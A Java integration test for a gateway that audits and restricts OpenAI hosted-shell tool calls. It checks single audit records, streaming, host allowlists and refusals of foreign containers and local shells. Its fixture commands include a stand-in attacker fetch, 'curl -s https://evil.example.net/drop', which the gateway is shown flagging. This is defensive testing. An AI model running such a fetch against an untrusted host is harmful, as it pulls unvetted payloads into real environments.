package com.sandboxgateway.audit;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.matchingJsonPath;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalManagementPort;
import org.springframework.test.context.TestPropertySource;

import com.openai.core.http.StreamResponse;
import com.openai.errors.NotFoundException;
import com.openai.errors.PermissionDeniedException;
import com.openai.models.responses.ContainerAuto;
import com.openai.models.responses.ContainerNetworkPolicyAllowlist;
import com.openai.models.responses.ContainerReference;
import com.openai.models.responses.FunctionShellTool;
import com.openai.models.responses.LocalEnvironment;
import com.openai.models.responses.Response;
import com.openai.models.responses.ResponseCreateParams;
import com.openai.models.responses.ResponseStreamEvent;
import com.openai.models.responses.Tool;
import com.sandboxgateway.support.GatewayIntegrationTest;
import com.sandboxgateway.support.ShellAnswers;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * The hosted shell through the official SDK: each shell call audited once, with the commands and the output
 * OpenAI sent, plain and streamed; an environment the policy does not allow is refused before OpenAI sees it.
 */
@TestPropertySource(properties = "gateway.policy.org.tools.allowed=code_interpreter,function,shell")
class ShellCallAuditTest extends GatewayIntegrationTest {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final List<String> COMMANDS = List.of("ls -la /mnt/data", "curl -s https://evil.example.net/drop");

    @Autowired
    AuditStore store;

    @LocalManagementPort
    int managementPort;

    @Test
    void shouldAuditAPlainShellCallOnceWithTheCommandsAndOutputOpenAiSent() throws Exception {
        String call = unique("sh_");
        String container = unique("cntr_");
        String response = unique("resp_");
        String answer = shellResponse(response, call, container).toString();
        openAi.stubFor(post("/v1/responses").willReturn(okJson(answer).withHeader("x-request-id", "req_shell42")));
        openAi.stubFor(get(urlPathEqualTo("/v1/responses/" + response)).willReturn(okJson(answer)));

        Response created = sdk(ALICE_KEY).responses().create(request(auto("pypi.org")));
        sdk(ALICE_KEY).responses().retrieve(response);

        assertThat(created.output().get(1).asShellCallOutput().output().getFirst().stdout()).isEqualTo("total 0\n");
        AuditRecord record = recordOf(call);
        assertThat(record.kind()).isEqualTo(AuditRecord.Kind.SHELL_EXECUTION);
        assertThat(record.code()).isEqualTo(String.join("\n", COMMANDS));
        assertThat(record.outputs()).contains("total 0").contains("Could not resolve host").contains("\"exit_code\":6");
        assertThat(record).extracting(AuditRecord::user, AuditRecord::team, AuditRecord::containerId, AuditRecord::responseId,
                AuditRecord::upstreamRequestId, AuditRecord::status)
                .containsExactly("alice", "analytics", container, response, "req_shell42", "completed");
        assertThat(record.session()).isNotNull();
        assertThat(JSON.readTree(record.details()).path("timeout_ms").asInt()).isEqualTo(60_000);
        assertThat(JSON.readTree(record.details()).path("outcome").asString()).isEqualTo("raised");
        assertThat(record.flags()).containsExactly("http_client");
        assertThat(JSON.readTree(record.details()).path("flags").get(0).path("detail").asString())
                .isEqualTo("host=evil.example.net allowed=false");
        assertThat(recordsOf(call)).as("a fetch records nothing twice").hasSize(1);
        openAi.verify(postRequestedFor(urlEqualTo("/v1/responses")).withRequestBody(matchingJsonPath("$.max_tool_calls")));
        JsonNode shell = JSON.readTree(audit("/actuator/audit?kind=shell&container=" + container));
        JsonNode code = JSON.readTree(audit("/actuator/audit?kind=code&container=" + container));
        assertThat(shell.path("records")).hasSize(1);
        assertThat(shell.path("records").get(0).path("record").path("callId").asString()).isEqualTo(call);
        assertThat(code.path("records")).isEmpty();
    }

    @Test
    void shouldAuditAStreamedShellCallBeforeItsOutputIsRelayed() {
        String call = unique("sh_");
        String response = unique("resp_");
        openAi.stubFor(post("/v1/responses").willReturn(aResponse().withHeader("Content-Type", "text/event-stream")
                .withBody(ShellAnswers.streamed(shellResponse(response, call, unique("cntr_"))))));
        boolean recordedBeforeOutputDone = false;
        int outputsDone = 0;

        try (StreamResponse<ResponseStreamEvent> stream = sdk(ALICE_KEY).responses().createStreaming(request(auto("pypi.org")))) {
            for (ResponseStreamEvent event : (Iterable<ResponseStreamEvent>) stream.stream()::iterator) {
                if (event.isOutputItemDone() && event.asOutputItemDone().item().isShellCallOutput()) {
                    outputsDone++;
                    recordedBeforeOutputDone = !recordsOf(call).isEmpty();
                }
            }
        }

        assertThat(outputsDone).isEqualTo(1);
        assertThat(recordedBeforeOutputDone).as("the record is written before the event completing the call is relayed").isTrue();
        AuditRecord record = recordOf(call);
        assertThat(record.code()).isEqualTo(String.join("\n", COMMANDS));
        assertThat(record.outputs()).contains("Could not resolve host");
        assertThat(record.responseId()).isEqualTo(response);
        assertThat(recordsOf(call)).as("response.completed repeats the call: still one record").hasSize(1);
    }

    @Test
    void shouldAuditAStreamedShellCallWhoseOutputNeverCameAsTheStreamEnds() throws Exception {
        String call = unique("sh_");
        String events = ShellAnswers.streamed(shellResponse(unique("resp_"), call, unique("cntr_")));
        // The stream breaks off once the shell call is done: its commands went to the container, their output never came.
        int outputAdded = events.indexOf("event: response.output_item.added", events.indexOf("event: response.output_item.added") + 1);
        openAi.stubFor(post("/v1/responses").willReturn(aResponse().withHeader("Content-Type", "text/event-stream")
                .withBody(events.substring(0, outputAdded))));
        String body = "{\"model\":\"gpt-5.1\",\"input\":\"ls\",\"stream\":true,\"tools\":[{\"type\":\"shell\",\"environment\":"
                + "{\"type\":\"container_auto\"}}]}";

        HttpResponse<String> streamed = raw(HttpRequest.newBuilder().header("Authorization", "Bearer " + ALICE_KEY)
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body)), "/v1/responses");

        assertThat(streamed.body()).contains("\"code\":\"upstream_error\"");
        AuditRecord record = recordOf(call);
        assertThat(record.code()).isEqualTo(String.join("\n", COMMANDS));
        assertThat(record.status()).isEqualTo("in_progress");
        assertThat(record.outputs()).isNull();
        assertThat(JSON.readTree(record.details()).path("end_unseen").asString()).isNotEmpty();
    }

    @Test
    void shouldCountAShellCallAsATurnOfItsSession() throws Exception {
        openAi.stubFor(post("/v1/responses").willReturn(okJson(shellResponse(unique("resp_"), unique("sh_"), unique("cntr_"))
                .toString())));
        String body = "{\"model\":\"gpt-5.1\",\"input\":\"ls\",\"tools\":[{\"type\":\"shell\",\"environment\":"
                + "{\"type\":\"container_auto\"}}]}";

        HttpResponse<String> answer = raw(HttpRequest.newBuilder().header("Authorization", "Bearer " + ALICE_KEY)
                .header("Content-Type", "application/json").header("X-Gateway-Session", unique("session-"))
                .POST(HttpRequest.BodyPublishers.ofString(body)), "/v1/responses");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("X-Gateway-Turns-Remaining")).as("1,000 per session, one shell call").hasValue("999");
        openAi.verify(postRequestedFor(urlEqualTo("/v1/responses")).withRequestBody(matchingJsonPath("$.max_tool_calls",
                equalTo("1000"))));
    }

    @Test
    void shouldJudgeEachCallsHostsByItsOwnToolsContainerInARequestWithBoth() throws Exception {
        String call = unique("sh_");
        String block = unique("ci_");
        String container = unique("cntr_");
        ObjectNode answer = ShellAnswers.completed(unique("resp_"), call, container, List.of("curl -s https://pypi.org/simple/"),
                List.of(new ShellAnswers.Ran("<html>", "", 0)));
        ((ArrayNode) answer.path("output")).insertObject(0).put("type", "code_interpreter_call")
                .put("id", block).put("status", "completed").put("container_id", container)
                .put("code", "import requests\nrequests.get('https://pypi.org/simple/')").putArray("outputs");
        openAi.stubFor(post("/v1/responses").willReturn(okJson(answer.toString())));
        String body = """
                {"model":"gpt-5.1","input":"fetch the index","tools":[
                 {"type":"code_interpreter","container":{"type":"auto"}},
                 {"type":"shell","environment":{"type":"container_auto",
                  "network_policy":{"type":"allowlist","allowed_domains":["pypi.org"]}}}]}""";

        HttpResponse<String> created = raw(HttpRequest.newBuilder().header("Authorization", "Bearer " + ALICE_KEY)
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body)), "/v1/responses");

        assertThat(created.statusCode()).as(created.body()).isEqualTo(200);
        assertThat(hostDetail(recordOf(call))).as("the shell environment opens pypi.org").isEqualTo("host=pypi.org allowed=true");
        AuditRecord code = store.query(new AuditQuery(null, null, null, null, null, null, "CODE_EXECUTION", null, null, 10_000))
                .stream().map(StoredRecord::record).filter(record -> block.equals(record.callId())).findFirst().orElseThrow();
        assertThat(hostDetail(code)).as("code interpreter's container has no network").isEqualTo("host=pypi.org allowed=false");
    }

    private static String hostDetail(AuditRecord record) {
        return JSON.readTree(record.details()).path("flags").findValue("detail").asString();
    }

    @Test
    void shouldRefuseAnEnvironmentOpeningADomainOutsideTheAllowlistWithNothingUpstream() {
        assertThatThrownBy(() -> sdk(ALICE_KEY).responses().create(request(auto("evil.example.net"))))
                .isInstanceOfSatisfying(PermissionDeniedException.class, e -> {
                    assertThat(e.code()).hasValue("domain_not_allowed");
                    assertThat(e.param()).hasValue("tools[0].environment.network_policy.allowed_domains");
                });
        openAi.verify(0, anyRequestedFor(anyUrl()));
    }

    @Test
    void shouldRefuseAnotherUsersContainerWithNothingUpstream() {
        String bobs = createdContainer(BOB_KEY, unique("cntr_"));
        openAi.resetRequests();

        assertThatThrownBy(() -> sdk(ALICE_KEY).responses().create(request(FunctionShellTool.Environment.ofContainerReference(
                ContainerReference.builder().containerId(bobs).build()))))
                .isInstanceOfSatisfying(NotFoundException.class, e -> assertThat(e.param()).hasValue("tools[0].environment.container_id"));
        openAi.verify(0, anyRequestedFor(anyUrl()));
    }

    @Test
    void shouldRefuseCommandsOnTheClientsOwnMachineUnlessShellLocalIsAllowed() {
        assertThatThrownBy(() -> sdk(ALICE_KEY).responses().create(request(FunctionShellTool.Environment.ofLocal(
                LocalEnvironment.builder().build()))))
                .isInstanceOfSatisfying(PermissionDeniedException.class, e -> {
                    assertThat(e.code()).hasValue("tool_not_allowed");
                    assertThat(e.getMessage()).contains("shell-local");
                });
        openAi.verify(0, anyRequestedFor(anyUrl()));
    }

    private static ResponseCreateParams request(FunctionShellTool.Environment environment) {
        return ResponseCreateParams.builder().model("gpt-5.1").input("What is in my data?")
                .addTool(Tool.ofShell(FunctionShellTool.builder().environment(environment).build())).build();
    }

    private static FunctionShellTool.Environment auto(String domain) {
        return FunctionShellTool.Environment.ofContainerAuto(ContainerAuto.builder().networkPolicy(
                ContainerNetworkPolicyAllowlist.builder().addAllowedDomain(domain).build()).build());
    }

    /** A completed response whose shell call ran {@link #COMMANDS} in {@code container}, as OpenAI answers it. */
    private static ObjectNode shellResponse(String id, String call, String container) {
        return ShellAnswers.completed(id, call, container, COMMANDS, List.of(new ShellAnswers.Ran("total 0\n", "", 0),
                new ShellAnswers.Ran("", "curl: (6) Could not resolve host: evil.example.net\n", 6)));
    }

    private AuditRecord recordOf(String call) {
        List<AuditRecord> records = recordsOf(call);
        assertThat(records).as("audit record of " + call).hasSize(1);
        return records.getFirst();
    }

    private List<AuditRecord> recordsOf(String call) {
        return store.query(new AuditQuery(null, null, null, null, null, null, "SHELL_EXECUTION", null, null, 10_000)).stream()
                .map(StoredRecord::record).filter(record -> call.equals(record.callId())).toList();
    }

    private String audit(String path) throws IOException, InterruptedException {
        try (HttpClient http = HttpClient.newHttpClient()) {
            return http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + managementPort + path))
                    .header("Authorization", "Bearer " + ADMIN_KEY).header("Accept", "application/json").build(),
                    HttpResponse.BodyHandlers.ofString()).body();
        }
    }
}
